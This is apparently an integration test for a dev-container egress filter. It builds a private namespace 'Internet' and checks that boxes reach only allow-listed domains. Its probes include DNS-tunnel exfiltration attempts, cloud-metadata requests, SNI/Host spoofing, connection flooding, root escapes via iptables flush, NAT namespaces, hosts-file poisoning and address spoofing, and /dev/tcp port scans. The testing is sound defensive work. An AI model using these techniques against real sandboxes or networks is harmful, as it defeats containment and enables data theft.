/**
 * What an egress filter lets through and what it does not, on this machine's real engine, with an Internet of the test's own: a network
 * namespace with documentation addresses, a name server, and web servers that say where they were reached. Needs root.
 */
import { type ChildProcess, spawn } from "node:child_process";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { text } from "node:stream/consumers";
import { setTimeout as delay } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { buildImage } from "../../images/build-image.ts";
import type { FilterPolicy } from "../../lib/domain/filter-state.ts";
import { applyState, ensureFilter, filterInstance } from "../../lib/egress/filter-control.ts";
import type { Engine } from "../../lib/engines/engine.ts";
import { openIncusEngine } from "../../lib/engines/incus/incus-engine.ts";
import { runCommand } from "../../lib/process/run-command.ts";
import { ensureProfile } from "./project.ts";
import { removeHost } from "./remove-host.ts";
import { openRootApi } from "./root-api.ts";
import { type LocalHost, setupHost } from "./setup-host.ts";

const installId = "tstegr";
const imagesDir = process.env.DEVBOX_TEST_IMAGES ?? path.join(tmpdir(), "devbox-test-images");
const internet = { namespace: "dbxtegr-out", link: "dbxtegr0", host: "198.51.100.1", dns: "198.51.100.53" };
/** What no box may reach: on an interface of the test's own, so that no packet can leave this machine. */
const closed = { link: "dbxtegr1", addresses: ["169.254.169.254", "10.60.60.60"] };
/** A listed name is at the first; the second is somebody that no policy lists; the third is the host's own. */
const [allowedAddress, otherAddress, ownAddress] = ["198.51.100.10", "198.51.100.20", "198.51.100.99"];
const setUpTimeoutMs = 10 * 60_000;
const progress = () => undefined;
vi.setConfig({ testTimeout: 60_000 });

const listed: FilterPolicy = {
	id: "plisted",
	mode: "enforce",
	domains: ["*.wild.example", "allowed.example", "private.example", "unknown.example"],
};
const other: FilterPolicy = { id: "pother", mode: "enforce", domains: ["second.example"] };
const observed: FilterPolicy = { id: "pobserved", mode: "observe", domains: ["allowed.example"] };
const none: FilterPolicy = { id: "pnone", mode: "enforce", domains: [] };
const boxes = { listed: 10, other: 11, observed: 12, none: 13 } as const;
type Box = keyof typeof boxes;

let dir: string;
let host: LocalHost;
let engine: Engine;
let image: string;
let fence: { address: string; resolvers: string[] };
let revision = Date.now();
const outsiders: ChildProcess[] = [];

beforeAll(async () => {
	const signal = AbortSignal.timeout(setUpTimeoutMs);
	await removeInternet();
	await removeHost({ installId, signal, progress });
	dir = await mkdtemp(path.join(tmpdir(), "devbox-egress-"));
	await makeInternet();
	process.env.DEVBOX_EGRESS_RESOLVERS = internet.dns;
	host = await setupHost({ installId, engineDir: dir, hostId: "host_test", poolGibMax: 10, signal, progress });
	const built = await buildImage({ name: "base", imagesDir, signal, progress });
	image = built.image;
	await openIncusEngine(host.root).importImage({ image, rootfsPath: built.rootfsPath, signal });
	const root = openRootApi(host.root.endpoint.slice("unix://".length));
	await ensureProfile({ installId, root, signal, progress });
	root.close();
	engine = openIncusEngine(host.restricted);
	const probe = await engine.probe({});
	fence = { address: probe.fenceAddress ?? "", resolvers: probe.fenceResolvers };
	await ensureFilter({ engine, installId, image });
	await enforce();
	await Promise.all(Object.keys(boxes).map((box) => makeBox(box as Box)));
}, setUpTimeoutMs);

afterAll(async () => {
	for (const outsider of outsiders) outsider.kill("SIGKILL");
	await removeInternet();
	await removeHost({ installId, signal: AbortSignal.timeout(setUpTimeoutMs), progress });
	if (dir) await rm(dir, { recursive: true });
	delete process.env.DEVBOX_EGRESS_RESOLVERS;
}, setUpTimeoutMs);

describe("a box with a list", () => {
	it("reaches the listed names, by web page, TLS and any other port, and the names below a wildcard", async () => {
		expect(await fetched("listed", "http://allowed.example/")).toBe(`allowed.example reached ${allowedAddress}`);
		expect(await fetched("listed", "https://allowed.example/")).toBe(`allowed.example reached ${allowedAddress}`);
		expect(await fetched("listed", "https://A.b.wild.example./")).toContain(allowedAddress);
		expect(await fetched("listed", "http://allowed.example:2222/")).toContain(allowedAddress);
	});

	it.each([
		["a name that is not listed", "http://evil.example/"],
		["the name of a wildcard itself", "https://wild.example/"],
		["a name that ends like a listed one", "http://evilallowed.example/"],
		["a name that ends like a wildcard", "http://evilwild.example/"],
		["a listed name that leads to a private address", "https://private.example/"],
		["an address", `https://${otherAddress}/`],
		["the address of a listed name", `https://${allowedAddress}/`],
		["an address on another port", `http://${allowedAddress}:2222/`],
		["an address of the host", `http://${ownAddress}/`],
		["the cloud's metadata", "http://169.254.169.254/"],
	])("does not reach %s, and hears so instead of waiting", async (_what, url) => {
		const said = await fetched("listed", url);
		expect(said).not.toContain("reached");
		expect(said).not.toContain("timed out");
	});

	it("is told that a listed name leads nowhere, once the name servers were asked again", async () => {
		expect(await fetched("listed", "http://unknown.example/")).toMatch(/unresolved|Empty reply/);
	});

	it("is told the rule by a page", async () => {
		const page = await inBox("listed", `curl -s -m5 -o - -w '%{http_code}' http://${otherAddress}/`);
		expect(page).toContain("network policy");
		expect(page).toContain("no_name");
		expect(page).toMatch(/403$/);
	});

	it("reaches the name in SNI and Host, never the address that it came by", async () => {
		const forced = (flags: string, url: string) => inBox("listed", `curl -sk -m5 ${flags} ${url}`);
		expect(await forced(`--connect-to ::${otherAddress}:443`, "https://allowed.example/")).toContain(allowedAddress);
		expect(await forced("--connect-to ::allowed.example:443", "https://evil.example/")).toBe("");
		expect(await forced("-H 'Host: evil.example'", "http://allowed.example/")).toContain("Blocked");
	});

	it("is judged by every request of a connection", async () => {
		const request = (name: string) =>
			`-o /dev/null -w '%{http_code} %{num_connects}\\n' -H 'Host: ${name}' http://allowed.example/`;
		const requests = ["allowed.example", "evil.example", "allowed.example"].map(request).join(" --next -s ");
		expect(await inBox("listed", `curl -s -m5 ${requests}`)).toBe("200 1\n403 0\n200 0");
	});

	it("gets no datagram out: neither QUIC nor echo, nor a question to another name server", async () => {
		expect(await inBox("listed", `ping -c1 -W2 ${otherAddress} >/dev/null; echo $?`)).not.toBe("0");
		expect(await asked(otherAddress)).toEqual([]);
		const query = `import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.settimeout(2)\nfor p in (443, 53, 123):\n  s.sendto(b"secret.tunnel.example", ("${internet.dns}", p))`;
		await inBox("listed", `python3 -c '${query}' ; getent hosts c2VjcmV0.tunnel.example`);
		expect(await asked("tunnel.example")).toEqual([]);
	});

	it.each(["listed", "none"] as const)("gets no question of another class out either (%s)", async (box) => {
		const ask = `
import socket, struct
def ask(kind, of):
	name = b"".join(bytes([len(part)]) + part for part in (b"leak%d-%d.tunnel.example" % (kind, of)).split(b".")) + b"\\0"
	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	s.settimeout(5)
	s.sendto(struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", kind, of), ("${inFenceOf(2)}", 53))
	return s.recv(512)[3] & 15
print(sorted({ask(kind, of) for kind in (1, 16, 255) for of in (255, 254, 4, 3)}))`;
		expect(await inBox(box, `python3 - <<'END'\n${ask}\nEND`)).toBe("[5]");
		expect(await asked("leak")).toEqual([]);
	});

	it("holds 512 connections at most, so that the others have theirs", async () => {
		const hold = `
import socket
held, refused = [], 0
for _ in range(600):
	s = socket.socket()
	s.settimeout(5)
	try:
		s.connect(("${allowedAddress}", 443))
		held.append(s)
	except OSError:
		refused += 1
print(len(held) <= 512, refused >= 80)
import sys, time
sys.stdout.flush()
time.sleep(8)`;
		const holding = inBox("listed", `python3 - <<'END'\n${hold}\nEND`);
		expect(await fetched("other", "http://second.example/")).toContain("reached");
		expect(await holding).toBe("True True");
	});

	it("goes no further as root, from a namespace of its own, or with an address that it gave itself", async () => {
		const tries = `
			ip netns add inner; ip link add v0 type veth peer name v1 netns inner; ip addr add 10.9.9.1/24 dev v0; ip link set v0 up
			ip -n inner addr add 10.9.9.2/24 dev v1; ip -n inner link set v1 up; ip -n inner route add default via 10.9.9.1
			sysctl -qw net.ipv4.ip_forward=1; iptables -t nat -A POSTROUTING -s 10.9.9.0/24 -j MASQUERADE 2>/dev/null
			ip netns exec inner curl -sk -m3 https://${otherAddress}/
			iptables -F 2>/dev/null; echo 'nameserver ${internet.dns}' > /etc/resolv.conf; echo '${otherAddress} allowed.example' >> /etc/hosts
			curl -s -m3 http://evil.example/; curl -s -m3 http://allowed.example/
			ip addr add ${inFenceOf(boxes.observed)}/24 dev eth0; curl -s -m3 --interface ${inFenceOf(boxes.observed)} http://${otherAddress}/
			ip addr del ${inFenceOf(boxes.observed)}/24 dev eth0; ip route replace default via ${fence.address}; curl -s -m3 http://${otherAddress}/
			ip -6 addr add fd77::2/64 dev eth0 nodad; ip -6 route add default dev eth0`;
		const output = await inBox("listed", tries);
		expect(output).not.toContain(`reached ${otherAddress}`);
		expect(output).toContain(`reached ${allowedAddress}`);
		await inBox(
			"listed",
			`ip route replace default via ${inFenceOf(2)}; sed -i '/allowed/d' /etc/hosts; echo nameserver ${inFenceOf(2)} > /etc/resolv.conf`,
		);
	});

	it("reaches neither another box nor its host", async () => {
		await inBox("other", "systemd-run -q --collect python3 -m http.server 8099");
		const open = `for t in ${inFenceOf(boxes.other)}/8099 ${fence.address}/22 ${fence.address}/53 ${fence.address}/8443; do timeout 2 bash -c "exec 3<>/dev/tcp/$t" 2>/dev/null && echo open $t; done; true`;
		expect(await inBox("listed", open)).not.toContain(`open ${fence.address}`);
		const answer = await inBox("listed", `timeout 3 curl -s http://${inFenceOf(boxes.other)}:8099/`);
		expect(answer).not.toContain("Directory listing");
	});
});

it("two boxes have their own lists at the same time", async () => {
	expect(await fetched("other", "http://second.example/")).toContain(allowedAddress);
	expect(await fetched("other", "http://allowed.example/")).not.toContain("reached");
	expect(await fetched("listed", "http://second.example/")).not.toContain("reached");
});

it("a box without a network reaches nothing, and one that is observed everything but what no box may reach", async () => {
	for (const url of ["http://allowed.example/", `http://${otherAddress}/`, `https://${allowedAddress}/`])
		expect(await fetched("none", url)).not.toContain("reached");
	expect(await fetched("observed", "https://evil.example/")).toContain(otherAddress);
	expect(await fetched("observed", `http://${otherAddress}/`)).toContain(otherAddress);
	expect(await fetched("observed", "http://private.example/")).not.toContain("reached");
});

it("a change of policy cuts what it forbids, and leaves the connections of others alone", async () => {
	const stream = (box: Box, url: string) => inBox(box, `curl -s -m60 ${url} | wc -c`);
	const cut = stream("other", "http://second.example/slow");
	const kept = stream("listed", "http://allowed.example/slow");
	await until(async () => (await inBox("other", "ss -Htn state established dst :80 | wc -l")) !== "0");
	await enforce({ other: none }, [boxes.other]);
	expect(Number(await cut)).toBeLessThan(5_000);
	expect(Number(await kept)).toBe(5_000);
	expect(await fetched("other", "http://second.example/")).not.toContain("reached");
	await enforce();
	expect(await fetched("other", "http://second.example/")).toContain(allowedAddress);
});

it("an older state than the one in force is refused", async () => {
	const applied = await applyState({ engine, state: stateOf({}), revision: "1", cut: [] });
	expect(applied).toEqual({ kind: "stale" });
});

it("with the filter dead nothing leaks; started again it enforces what it knew, before it is told", async () => {
	await engine.stop({ name: filterInstance, graceMs: 0 });
	for (const url of ["http://allowed.example/", `http://${otherAddress}/`])
		expect(await fetched("listed", url)).not.toContain("reached");
	expect(await fetched("observed", `http://${otherAddress}/`)).not.toContain("reached");
	await ensureFilter({ engine, installId, image });
	await until(async () => (await fetched("listed", "http://allowed.example/")).includes(allowedAddress));
	expect(await fetched("listed", "http://evil.example/")).not.toContain("reached");
	expect(await fetched("none", `http://${otherAddress}/`)).not.toContain("reached");
});

it("a box moves between the open network and the fence while it runs", async () => {
	await engine.setNetwork({ name: "dbx-none", network: { kind: "open" } });
	await until(async () => (await fetched("none", `http://${otherAddress}/`)).includes(otherAddress));
	await engine.setNetwork({ name: "dbx-none", network: { kind: "fenced", place: boxes.none } });
	await until(async () => (await inBox("none", "ip -4 -o addr show eth0")).includes(inFenceOf(boxes.none)));
	expect(await fetched("none", `http://${otherAddress}/`)).not.toContain("reached");
});

function inFenceOf(place: number): string {
	return fence.address.replace(/\.\d+$/, `.${place}`);
}

function stateOf(instead: Partial<Record<Box, FilterPolicy>>) {
	const policies = { listed, other, observed, none, ...instead };
	return {
		address: inFenceOf(2),
		resolvers: fence.resolvers,
		policies: [...new Set(Object.values(policies))],
		boxes: Object.entries(boxes).map(([box, place]) => ({
			address: inFenceOf(place),
			policyId: policies[box as Box].id,
		})),
	};
}

async function enforce(instead: Partial<Record<Box, FilterPolicy>> = {}, cut: number[] = []): Promise<void> {
	revision += 1;
	const state = stateOf(instead);
	const applied = await applyState({ engine, state, revision: String(revision), cut: cut.map(inFenceOf) });
	expect(applied).toEqual({ kind: "applied", problem: null });
}

async function makeBox(box: Box): Promise<void> {
	const name = `dbx-${box}`;
	await engine.create({
		name,
		labels: { installId, devboxId: name.replace("-", "_") },
		source: { kind: "image", image },
		limits: { vcpus: 1, memoryMib: 1024, diskGib: 2 },
		network: { kind: "fenced", place: boxes[box] },
	});
	await engine.start({ name });
	await until(async () => (await engine.inspect({ name })).ipv4 !== null);
	await until(async () => (await inBox(box, "cat /run/resolv.conf")) !== "");
}

/** What a page says, or curl's own words. */
function fetched(box: Box, url: string): Promise<string> {
	return inBox(box, `curl -skS -m5 ${url} 2>&1`);
}

async function inBox(box: Box, script: string): Promise<string> {
	const env = { PATH: "/usr/sbin:/usr/bin:/sbin:/bin", HOME: "/root" };
	const stream = await engine.exec({ name: `dbx-${box}`, command: ["bash", "-c", script], env });
	stream.stdio.end();
	stream.stderr.resume();
	const output = await text(stream.stdio);
	await stream.exit;
	return output.trimEnd();
}

/** What the Internet's name server was asked that has this in it. */
async function asked(part: string): Promise<string[]> {
	const { stdout } = await runCommand({ command: ["cat", path.join(dir, "dns.log")] });
	return stdout.split("\n").filter((line) => line.includes(part));
}

const names = {
	"allowed.example": allowedAddress,
	"wild.example": allowedAddress,
	"second.example": allowedAddress,
	"evil.example": otherAddress,
	"evilallowed.example": otherAddress,
	"evilwild.example": otherAddress,
	"private.example": "10.60.60.60",
};

const webServer = `
import http.server, ssl, sys, threading, time
class Page(http.server.BaseHTTPRequestHandler):
	protocol_version = "HTTP/1.1"
	def do_GET(self):
		self.send_response(200)
		if self.path == "/slow":
			self.send_header("content-length", "5000"); self.end_headers()
			for n in range(50): self.wfile.write(b"x" * 100); self.wfile.flush(); time.sleep(0.2)
			return
		body = (self.headers.get("host", "").split(":")[0] + " reached " + self.connection.getsockname()[0]).encode()
		self.send_header("content-length", str(len(body))); self.end_headers(); self.wfile.write(body)
	def log_message(self, *args): pass
def serve(port, tls=False):
	server = http.server.ThreadingHTTPServer(("0.0.0.0", port), Page)
	if tls:
		context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain(sys.argv[1], sys.argv[2])
		server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
	threading.Thread(target=server.serve_forever).start()
serve(80); serve(2222); serve(443, True)
print("up", flush=True)
`;

async function makeInternet(): Promise<void> {
	const { namespace, link } = internet;
	const commands = [
		`netns add ${namespace}`,
		`link add ${link} type veth peer name eth0 netns ${namespace}`,
		`addr add ${internet.host}/32 dev ${link}`,
		`addr add ${ownAddress}/32 dev ${link}`,
		`link set ${link} up`,
		`link add ${closed.link} type bridge`,
		...closed.addresses.map((address) => `addr add ${address}/32 dev ${closed.link}`),
		`link set ${closed.link} up`,
		...[allowedAddress, otherAddress, internet.dns].flatMap((address) => [
			`route add ${address}/32 dev ${link}`,
			`-n ${namespace} addr add ${address}/24 dev eth0`,
		]),
		`-n ${namespace} link set eth0 up`,
		`-n ${namespace} link set lo up`,
		`-n ${namespace} route add default via ${internet.host}`,
	];
	for (const command of commands) await runCommand({ command: ["ip", ...command.split(" ")] });
	const records = Object.entries(names).map(([name, address]) => `address=/${name}/${address}`);
	await writeFile(
		path.join(dir, "dns.conf"),
		["no-resolv", "no-hosts", "log-queries", "local=/example/", ...records].join("\n"),
	);
	const [key, certificate] = [path.join(dir, "key.pem"), path.join(dir, "certificate.pem")];
	const subject = ["-subj", "/CN=allowed.example", "-days", "2", "-nodes"];
	await runCommand({
		command: ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-keyout", key, "-out", certificate, ...subject],
	});
	await writeFile(path.join(dir, "server.py"), webServer);
	const inside = (command: string[]) => {
		const child = spawn("ip", ["netns", "exec", namespace, ...command], { stdio: ["ignore", "pipe", "ignore"] });
		outsiders.push(child);
		return child;
	};
	const log = path.join(dir, "dns.log");
	await writeFile(log, "", { mode: 0o666 });
	inside([
		"dnsmasq",
		"-k",
		"-C",
		path.join(dir, "dns.conf"),
		`--listen-address=${internet.dns}`,
		"--bind-interfaces",
		`--log-facility=${log}`,
		"--user=root",
		"--pid-file=",
	]);
	const web = inside(["python3", path.join(dir, "server.py"), certificate, key]);
	await new Promise((resolve) => web.stdout?.once("data", resolve));
}

async function removeInternet(): Promise<void> {
	const { stdout } = await runCommand({ command: ["ip", "netns", "list"] });
	if (stdout.includes(internet.namespace)) await runCommand({ command: ["ip", "netns", "delete", internet.namespace] });
	for (const link of [internet.link, closed.link])
		await runCommand({ command: ["ip", "link", "delete", link], allowedCodes: [1] });
}

async function until(condition: () => Promise<boolean>, timeoutMs = 30_000): Promise<void> {
	const endsAt = Date.now() + timeoutMs;
	while (!(await condition())) {
		if (Date.now() > endsAt) throw new Error(`not within ${timeoutMs} ms: ${condition}`);
		await delay(100);
	}
}
